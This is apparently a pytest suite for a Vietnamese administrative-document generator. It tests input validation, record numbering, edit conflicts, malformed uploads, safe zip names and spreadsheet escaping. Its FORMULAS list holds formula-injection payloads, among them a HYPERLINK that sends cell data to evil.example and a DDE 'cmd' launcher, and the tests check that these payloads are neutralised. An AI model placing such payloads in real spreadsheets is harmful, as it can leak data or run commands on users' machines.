"""No accepted input breaks a page: hostile inputs answer a Vietnamese 4xx, accepted ones render and save.

Issue 10, item 5: poisons that validation let through, a record that cannot render, a typed Số, the lost
update, formula injection into .xlsx, Windows-safe zip names, and the 500s of the robustness run.
"""

from __future__ import annotations

import copy
import datetime as dt
import io
import json
import re
import threading
import zipfile
from decimal import Decimal

import docx
import openpyxl
import pytest
from sqlalchemy import func, select

from doctpl import batch, facts, spreadsheet
from doctpl.errors import ValidationError
from doctpl.kind import Kind, get_kind
from doctpl.render import render, render_data
from doctpl.store import numbering, records
from doctpl.store.models import PhienBan, SoDi, VanBan
from doctpl.xlsx import safe_cell
from tests.conftest import csrf_token, docx_text, example, signed_in, state_example
from tests.stores import store  # noqa: F401  (fixture)

FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1")


def _refused(call, field: str) -> str:
    """Run `call`, expect a ValidationError naming `field`, and return its message."""
    with pytest.raises(ValidationError) as caught:
        call()
    messages = [e.message for e in caught.value.errors() if e.field == field]
    assert messages, caught.value.errors()
    return messages[0]


def _plan(so: int | None = None, year: int = 2021) -> dict:
    """Return the 2021 plan in state form (one NĐ 30 series a year) with number `so`, moved into `year`."""
    data = state_example("ke_hoach")
    data["so"], data["nam"] = so, year
    for name in ("ngay", "han_bao_cao_6_thang", "han_bao_cao_nam"):
        data[name] = data[name] and f"{year}{data[name][4:]}"
    return data


# Poisons: data validation used to accept and the render could not use.

def test_a_blank_optional_bonus_score_counts_as_zero():
    data = example("bao_cao_tong_ket")
    data["diem"][0]["thuong_tru"] = ""
    del data["diem"][1]["thuong_tru"]
    kind = get_kind("bao_cao_tong_ket")
    checked = kind.validate(data)
    assert checked["diem"][0]["thuong_tru"] == checked["diem"][1]["thuong_tru"] == Decimal(0)
    docx.Document(io.BytesIO(render_data(kind, checked).content))


@pytest.mark.parametrize("kind_id", ["ke_hoach", "giao_uoc", "dang_ky", "bao_cao_so_ket", "bao_cao_tong_ket"])
def test_a_document_before_the_decree_takes_the_abbreviations_of_thong_tu_01_2011(kind_id):
    data = state_example(kind_id)
    data["nam"], data["ngay"] = 2019, "2019-06-10"
    for name in ("han_bao_cao_6_thang", "han_bao_cao_nam"):
        if name in data:
            data[name] = data[name] and f"2019{data[name][4:]}"
    text = docx_text(render(kind_id, data).content)
    abbreviation = facts.abbreviation(get_kind(kind_id).ten_loai, dt.date(2021, 1, 1))
    assert re.search(rf"Số: (\d{{2,}}|\s{{5}})/{abbreviation}-", text), text[:400]


@pytest.mark.parametrize(("the_thuc", "since"), [("nha_nuoc", "06/5/2005"), ("dang", "28/5/2004")])
@pytest.mark.parametrize(("year", "ngay", "field"), [(2004, None, "nam"), (1990, None, "nam"), (1945, None, "nam"),
                                                     (2012, "2004-05-01", "ngay"), (2021, "1990-01-01", "ngay")])
def test_a_year_or_a_date_before_any_abbreviation_table_is_refused_by_name(year, ngay, field, the_thuc, since):
    data = example("giao_uoc") | {"the_thuc": the_thuc}  # TTLT 55/2005 and HD 11-HD/VPTW are the first tables
    data["nam"], data["ngay"] = year, ngay
    message = _refused(lambda: get_kind("giao_uoc").validate(data), field)
    assert "chưa có chữ viết tắt tên loại «Giao ước thi đua»" in message and since in message


def test_the_register_refuses_a_year_before_any_abbreviation_table(store):  # noqa: F811
    with store.session() as session:
        for call in (lambda: numbering.take(session, "KTĐ1", 2005, "Kế hoạch", kind="ke_hoach", who="t"),
                     lambda: numbering.record(session, "KTĐ1", 2005, 3, "Kế hoạch", kind="ke_hoach", who="t")):
            assert "chưa có chữ viết tắt tên loại «Kế hoạch»" in _refused(call, "nam")


def test_the_abbreviation_tables_before_and_after_nd_30():
    assert facts.abbreviation("Kế hoạch", dt.date(2015, 1, 1)) == "KH"
    assert facts.abbreviation("Giấy ủy quyền", dt.date(2015, 1, 1)) == "UQ"
    assert facts.abbreviation("Giấy ủy quyền", dt.date(2021, 1, 1)) == "GUQ"
    assert facts.abbreviation("Giao ước thi đua", dt.date(2015, 1, 1)) == "GƯTĐ"
    assert facts.abbreviation("Kế hoạch", dt.date(2011, 3, 4)) == "KH"  # TTLT 55/2005 until Thông tư 01/2011
    assert facts.abbreviation("Giấy giới thiệu", dt.date(2011, 3, 4)) == "GT"
    with pytest.raises(KeyError):
        facts.abbreviation("Kế hoạch", dt.date(2005, 5, 5))
    assert "GUQ" in facts.abbreviations() and "UQ" not in facts.abbreviations()  # the NĐ 30 checker's list
    assert "UQ" in facts.abbreviations(dt.date(2015, 1, 1))


def test_a_registration_dated_before_the_ratio_rules_renders_without_their_warnings():
    data = example("dang_ky")
    data["nam"], data["ngay"] = 2015, "2015-03-01"
    for person in data["ca_nhan"]:
        person["danh_hieu"] = "cstd_co_so"
    document = render("dang_ky", data)
    assert not [w for w in document.warnings if w.field == "ca_nhan"]


@pytest.mark.parametrize("nam", [99999999, "99999999", 10**400, "²⁰²¹", "٢٠٢١x", 2021.5, True, "1e4"])
def test_huge_years_and_superscript_digits_are_refused(nam):
    data = example("ke_hoach")
    data["nam"] = nam
    assert "«Năm» phải là số nguyên từ 1945 đến 2200" in _refused(lambda: render("ke_hoach", data), "nam")


def test_control_characters_and_lone_surrogates_are_cleaned_from_text():
    data = example("ke_hoach")
    data["co_quan"]["ten"] = "Khối thi đua\x00 số 1\ud800\x1f"
    checked = get_kind("ke_hoach").validate(data)
    assert checked["co_quan"]["ten"] == "Khối thi đua số 1"
    assert "KHỐI THI ĐUA SỐ 1" in docx_text(render_data(get_kind("ke_hoach"), checked).content)


# Saving: never a record that cannot render; a typed Số enters the register; no lost update.

def test_a_record_that_cannot_render_is_never_saved(store, monkeypatch):  # noqa: F811
    def broken(kind: Kind, data: dict):
        raise KeyError("no abbreviation in force")

    monkeypatch.setattr(records, "render_data", broken)
    with store.session() as session:
        message = _refused(lambda: records.save(session, "ke_hoach", _plan(), who="t"), "")
        assert "Văn bản chưa được lưu: không tạo được tệp .docx" in message
        draft = example("ke_hoach")
        draft["co_quan"]["ten"] = ""
        assert records.save(session, "ke_hoach", draft, who="t", draft=True).nhap  # a draft is not rendered
        assert session.scalar(select(func.count()).select_from(VanBan)) == 1


def test_a_typed_number_enters_the_register_or_is_refused_when_given(store):  # noqa: F811
    with store.session() as session:
        first = records.save(session, "ke_hoach", _plan(7), who="Văn thư A")
        line = session.scalars(select(SoDi).where(SoDi.van_ban_id == first.id)).one()
        assert (line.co_quan, line.nam, line.so, line.ky_hieu) == ("KTĐ1", 2021, 7, "07/KH-KTĐ1")
        records.save(session, "ke_hoach", _plan(7), who="Văn thư A", record_id=first.id)  # unchanged: no new line
        assert session.scalar(select(func.count()).select_from(SoDi)) == 1
        message = _refused(lambda: records.save(session, "ke_hoach", _plan(7), who="Văn thư B"), "so")
        assert message.startswith(f"Số 07 năm 2021 của KTĐ1 đã cấp cho văn bản khác (bản lưu #{first.id})")
        assert numbering.take(session, "KTĐ1", 2021, "Kế hoạch", kind="ke_hoach", who="t").so == 8
        other_year = records.save(session, "ke_hoach", _plan(7, 2022), who="t")
        assert other_year.so == 7
        draft = _plan(9)
        draft["co_quan"]["ten"] = ""
        records.save(session, "ke_hoach", draft, who="t", draft=True)  # drafts do not enter the register
        assert not session.scalars(select(SoDi).where(SoDi.so == 9)).all()
        cancelled = numbering.take(session, "KTĐ1", 2021, "Kế hoạch", kind="ke_hoach", who="t")
        numbering.cancel(session, cancelled.id, who="t", reason="Nhầm\x01")
        assert "đã hủy ngày" in _refused(lambda: records.save(session, "ke_hoach", _plan(cancelled.so), who="t"),
                                         "so")
        by_hand = numbering.take(session, "KTĐ1", 2021, "Kế hoạch", kind="ke_hoach", who="t")
        typed = records.save(session, "ke_hoach", _plan(by_hand.so), who="t")
        assert by_hand.van_ban_id == typed.id  # a number taken on the register page, then typed in the form
        giao_uoc = numbering.take(session, "KTĐ1", 2021, "Giao ước thi đua", kind="giao_uoc", who="t")
        assert "«Giao ước thi đua» lấy ngày" in _refused(
            lambda: records.save(session, "ke_hoach", _plan(giao_uoc.so), who="t"), "so")


def test_an_edit_from_an_older_version_is_refused_and_names_who_saved_the_newer(store):  # noqa: F811
    with store.session() as session:
        record_id = records.save(session, "ke_hoach", _plan(), who="Văn thư A").id
    with store.session() as session:
        records.save(session, "ke_hoach", _plan(), who="Văn thư B", record_id=record_id, expected_version=1)
    with store.session() as session, pytest.raises(records.VersionConflict) as caught:
        records.save(session, "ke_hoach", _plan(), who="Văn thư A", record_id=record_id, expected_version=1)
    assert caught.value.status == 409 and caught.value.newer == 2
    assert re.fullmatch(rf"Bản lưu #{record_id} vừa được Văn thư B lưu thành phiên bản 2 lúc \d\d:\d\d ngày "
                        r"\d\d/\d{1,2}/\d{4}, sau phiên bản 1 mà bạn mở để sửa\. .+", str(caught.value))
    with store.session() as session:
        assert records.get(session, record_id).phien_ban == 2


def test_simultaneous_saves_of_one_record_conflict_and_never_fail(store):  # noqa: F811
    with store.session() as session:
        record_id = records.save(session, "ke_hoach", _plan(), who="t").id
    barrier, outcomes = threading.Barrier(4), []

    def edit(who: str, expected: int | None) -> None:
        barrier.wait()
        try:
            with store.session() as session:
                records.save(session, "ke_hoach", _plan(), who=who, record_id=record_id, expected_version=expected)
            outcomes.append("saved")
        except records.VersionConflict:
            outcomes.append("conflict")
        except Exception as error:  # noqa: BLE001 - any other outcome fails the test below
            outcomes.append(repr(error))

    threads = [threading.Thread(target=edit, args=(f"Văn thư {n}", 1 if n % 2 else None)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert set(outcomes) <= {"saved", "conflict"} and outcomes.count("saved") >= 1, outcomes
    with store.session() as session:
        versions = session.scalars(select(PhienBan.phien_ban).where(PhienBan.van_ban_id == record_id)).all()
        assert sorted(versions) == list(range(1, 2 + outcomes.count("saved")))


# The web form: the version travels with the edit; a conflict keeps the clerk's input.


def _form(data: dict, page: str, **hidden: str) -> dict:
    """Return the form fields of `data` as a browser posts them, with the page's CSRF token and hidden fields."""
    values = {path: "" if value is None else str(value) for path, value in spreadsheet.flatten(data).items()}
    found = dict(re.findall(r'<input type="hidden" name="(_[a-z_]+)" value="([^"]*)"', page))
    return {"csrf_token": csrf_token(page), **found, **values, "_xac_nhan": "1", **hidden}


def test_two_clerks_editing_one_record_the_second_is_told_and_keeps_the_input(web):
    first, second = signed_in(web, "vanthu1", name="Văn Thư Một"), signed_in(web, "vanthu2", name="Văn Thư Hai")
    created = first.post("/ke_hoach", data=_form(example("ke_hoach"), first.get("/ke_hoach").get_data(as_text=True)))
    record_id = int(re.search(r"/van-ban/(\d+)", created.headers["Location"]).group(1))
    pages = [client.get(f"/ke_hoach?ban={record_id}").get_data(as_text=True) for client in (first, second)]
    assert all('name="_phien_ban" value="1"' in page for page in pages)
    mine, theirs = example("ke_hoach"), example("ke_hoach")
    mine["dia_danh"], theirs["dia_danh"] = "Bảo Lộc", "Di Linh"
    assert first.post("/ke_hoach", data=_form(mine, pages[0])).status_code == 303
    refused = second.post("/ke_hoach", data=_form(theirs, pages[1]))
    page = refused.get_data(as_text=True)
    assert refused.status_code == 409
    assert f"Bản lưu #{record_id} vừa được Văn Thư Một lưu thành phiên bản 2" in page
    assert f'href="/van-ban/{record_id}"' in page and 'value="Di Linh"' in page
    assert 'name="_phien_ban" value="2"' in page  # saving again, having read version 2, replaces it
    assert second.post("/ke_hoach", data=_form(theirs, page)).status_code == 303
    with web.extensions["doctpl.store"].session() as session:
        assert [records.data(session, record_id, n)["dia_danh"] for n in (2, 3)] == ["Bảo Lộc", "Di Linh"]


def test_simultaneous_web_saves_answer_303_or_409_never_500(web):
    clients = [signed_in(web, f"vanthu{n}", name=f"Văn Thư {n}") for n in range(3)]
    created = clients[0].post("/ke_hoach", data=_form(example("ke_hoach"),
                                                      clients[0].get("/ke_hoach").get_data(as_text=True)))
    record_id = int(re.search(r"/van-ban/(\d+)", created.headers["Location"]).group(1))
    forms = [_form(example("ke_hoach"), client.get(f"/ke_hoach?ban={record_id}").get_data(as_text=True))
             for client in clients]
    barrier, codes = threading.Barrier(len(clients)), []

    def post(client, form) -> None:
        barrier.wait()
        codes.append(client.post("/ke_hoach", data=form).status_code)

    threads = [threading.Thread(target=post, args=pair) for pair in zip(clients, forms, strict=True)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(codes) == [303, 409, 409], codes


def test_a_typed_number_already_given_comes_back_beside_its_field(web):
    client = signed_in(web)
    for expected in (303, 422):
        response = client.post("/ke_hoach", data=_form(_plan(5), client.get("/ke_hoach").get_data(as_text=True)))
        assert response.status_code == expected
    page = response.get_data(as_text=True)
    assert "Số 05 năm 2021 của KTĐ1 đã cấp cho văn bản khác" in page and 'id="f-so"' in page


def test_hidden_fields_with_superscript_digits_do_not_break_the_form(web):
    client = signed_in(web)
    form = _form(example("ke_hoach"), client.get("/ke_hoach").get_data(as_text=True), _ban="²", _phien_ban="³")
    assert client.post("/ke_hoach", data=form).status_code == 303


def test_nul_characters_and_text_at_its_limit_are_saved(web):
    client = signed_in(web)
    data = state_example("giao_uoc")
    data["co_quan"].update(ten="Đ" * 119 + "\x00", chu_quan="C\x00" * 60, ky_hieu="ﬃ" * 10)
    data["trich_yeu"], data["so"] = "t" * 250, None
    data["don_vi_ky"] = [copy.deepcopy(data["don_vi_ky"][1]) | {"ten": f"Đơn vị {n} " + "đ" * 140,
                                                                "ho_ten": f"{n} " + "Ư" * 77}
                         for n in range(30)]
    form = _form(data, client.get("/giao_uoc").get_data(as_text=True), _lay_so="1")
    response = client.post("/giao_uoc", data=form)
    assert response.status_code == 303, response.get_data(as_text=True)[:2000]
    assert client.get(response.headers["Location"]).status_code == 200
    assert client.get("/so-van-ban?nam=2021").status_code == 200  # fills the register line from the document
    with web.extensions["doctpl.store"].session() as session:
        line = session.scalars(select(SoDi)).one()
        assert (line.ky_hieu, len(line.nguoi_ky)) == ("01/GƯTĐ-FFIFFIFFIFFIFFIFFIFFIFFIFFIFFI", 300)
        record = session.scalars(select(VanBan)).one()
        assert "\x00" not in records.data(session, record.id)["co_quan"]["chu_quan"]
    data["co_quan"]["ky_hieu"] = "ﬃ" * 11  # upper-cased, longer than a register's issuer
    response = client.post("/giao_uoc", data=_form(data, client.get("/giao_uoc").get_data(as_text=True),
                                                    _lay_so="1"))
    assert response.status_code == 422 and "dài hơn 30 ký tự của sổ văn bản đi" in response.get_data(as_text=True)


# The API and the upload pages.

def test_lone_surrogates_in_json_render_and_validate(client):
    body = example("ke_hoach")
    body["co_quan"]["ten"] = "Khối thi đua số 1 \ud800"
    text = json.dumps(body)  # ensure_ascii: the surrogate travels as "\ud800", as a hostile client sends it
    assert "\\ud800" in text
    for path in ("/api/v1/render/ke_hoach", "/api/v1/validate/ke_hoach"):
        response = client.post(path, data=text, content_type="application/json")
        assert response.status_code == 200, response.get_data(as_text=True)[:500]
    unknown = client.post("/api/v1/validate/ke_hoach", data='{"\\udfff": 1}', content_type="application/json")
    assert unknown.status_code == 422 and unknown.get_json()["errors"]


@pytest.mark.parametrize(("change", "field"), [
    ({"nam": 99999999}, "nam"), ({"nam": "²⁰²¹"}, "nam"), ({"so": "¹"}, "so"), ({"ngay": "31/12/99999"}, "ngay"),
    ({"ngay": "²/1/2021"}, "ngay"), ({"nam": 1999}, "nam")])  # 1999: before every abbreviation table
def test_huge_years_and_superscript_digits_answer_422_with_the_field(client, change, field):
    for path in ("/api/v1/render/dang_ky", "/api/v1/validate/dang_ky"):
        response = client.post(path, json=example("dang_ky") | change)
        assert response.status_code == 422, response.get_data(as_text=True)[:500]
        assert field in [e["field"] for e in response.get_json()["errors"]]


MALFORMED = {"empty.docx": b"", "text.docx": "Không phải .docx".encode(),
             "no-document.docx": ("[Content_Types].xml", b"<Types/>"),
             "broken-xml.docx": ("word/document.xml", b"<w:document><w:body><w:p>"),
             "zip-of-nothing.docx": ("a.txt", b"x")}


def _upload(content) -> bytes:
    if isinstance(content, bytes):
        return content
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(*content)
    return out.getvalue()


@pytest.mark.parametrize("name", list(MALFORMED))
def test_a_malformed_docx_answers_400_in_vietnamese(client, name):
    api = client.post("/api/v1/check", data={"file": (io.BytesIO(_upload(MALFORMED[name])), name)})
    assert api.status_code == 400 and name in api.get_json()["errors"][0]["message"], api.get_data(as_text=True)
    token = csrf_token(client.get("/kiem-tra").get_data(as_text=True))
    page = client.post("/kiem-tra", data={"csrf_token": token, "tep": (io.BytesIO(_upload(MALFORMED[name])), name)})
    assert page.status_code == 400 and "không phải tệp .docx đọc được" in page.get_data(as_text=True)


def test_a_csv_not_in_utf8_answers_400_in_vietnamese(client):
    content = "co_quan.ten;nam\nKhối thi đua số 1;2021\n".encode("utf-16")
    response = client.post("/api/v1/batch", data={"kind": "ke_hoach", "tep": (io.BytesIO(content), "lo.csv")})
    assert response.status_code == 400 and "UTF-8" in response.get_json()["errors"][0]["message"]


# Spreadsheets doctpl writes: no live formula, no control character.

@pytest.mark.parametrize("value", FORMULAS)
def test_formula_like_text_is_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-0,5", "+3", "-12.25", "Khối thi đua", "", 7, None, dt.date(2021, 4, 8)])
def test_numbers_plain_text_and_other_values_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_control_characters_are_stripped_from_cells():
    assert safe_cell("Nhầm\x01 số\x00\ud800") == "Nhầm số" and safe_cell("\x01=1+1") == "'=1+1"


def test_the_register_export_has_no_live_formula_and_survives_control_characters(store):  # noqa: F811
    with store.session() as session:
        lines = [numbering.take(session, "KTĐ1", 2026, "Kế hoạch", kind="ke_hoach", who="t") for _ in FORMULAS]
        for line, value in zip(lines, FORMULAS, strict=True):
            numbering.update(session, line.id, {"ghi_chu": value}, who="t")
            line.trich_yeu = value  # as a hand-entered number keeps it
        numbering.cancel(session, lines[0].id, who="t", reason="Nhầm\x01\x1f")
        content = numbering.to_xlsx(numbering.register(session))
    sheet = openpyxl.load_workbook(io.BytesIO(content))["KTĐ1 2026"]
    cells = [cell for row in sheet.iter_rows(min_row=3) for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text[:1] in "=+-@\t\r"], texts
    assert any("Nhầm" in text for text in texts)


def test_the_blank_template_has_no_live_formula(monkeypatch):
    data = example("dang_ky")
    data["co_quan"]["ten"] = FORMULAS[0] + "\x01"
    monkeypatch.setattr(Kind, "example", lambda self, name=None: copy.deepcopy(data))
    book = openpyxl.load_workbook(io.BytesIO(spreadsheet.blank(get_kind("dang_ky"))))
    cells = [cell for row in book["Dữ liệu"].iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert "'" + FORMULAS[0] in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)


# Zip entries a Windows office can unpack.

@pytest.mark.parametrize("name", ["CON", "con", "Aux", "NUL", "prn", "COM1", "com9", "LPT1", "lpt9", "COM0"])
def test_zip_entries_never_take_a_windows_device_name(name):
    stem = batch.entry_stem(name, name, set())
    folder, file = stem.split("/")
    assert folder.upper() not in batch.WINDOWS_RESERVED and file.upper() not in batch.WINDOWS_RESERVED


def test_zip_entries_are_short_unique_without_case_and_end_in_no_dot():
    seen: set[str] = set()
    long = "Ban Tuyên giáo và Dân vận Tỉnh ủy Lâm Đồng " * 10
    stems = [batch.entry_stem(long, title, seen) for title in (long, long, long.upper(), "Kế hoạch.", "Kế hoạch ")]
    assert len({stem.lower() for stem in stems}) == len(stems)
    assert all(len(f"{stem}.docx") <= batch.MAX_ENTRY and not stem.endswith((".", " ")) for stem in stems)


def test_a_batch_zip_of_reserved_and_long_names_unpacks_on_windows():
    content = render("ke_hoach", example("ke_hoach")).content
    jobs = [(batch.Job("ke_hoach", {}, folder), title, content)
            for folder, title in (("CON", "aux"), ("con", "AUX"), ("Đ" * 300, "Ư " * 300))]
    out = io.BytesIO()
    batch.write_zip(out, jobs)
    names = zipfile.ZipFile(out).namelist()
    assert len(names) == len({name.lower() for name in names}) == 3
    for name in names:
        assert len(name) <= batch.MAX_ENTRY
        for part in name.split("/"):
            assert part.split(".")[0].upper() not in batch.WINDOWS_RESERVED and not part.endswith((".", " "))


def test_ids_too_large_for_the_database_are_not_found(demo_client):
    huge = "9" * 23
    for path in (f"/van-ban/{huge}", f"/van-ban/{huge}/tai-ve", f"/van-ban/{huge}/nam-sau",
                 f"/quan-tri/khoi/{huge}/nam-sau?tu=2026&den=2027", f"/quan-tri/don-vi/{huge}"):
        assert demo_client.get(path).status_code == 404, path
    page = demo_client.get("/tai-khoan/khoa-api").get_data(as_text=True)
    assert demo_client.post(f"/tai-khoan/khoa-api/{huge}/thu-hoi",
                            data={"csrf_token": csrf_token(page)}).status_code == 404
    listing = demo_client.get("/quan-tri/tai-khoan").get_data(as_text=True)
    assert demo_client.post(f"/quan-tri/tai-khoan/{huge}/khoa", data={"csrf_token": csrf_token(listing)}
                            ).status_code == 422
    same_year = demo_client.get("/quan-tri/khoi/2/nam-sau?tu=2026&den=2026")
    assert same_year.status_code == 400 and "phải sau năm" in same_year.get_data(as_text=True)
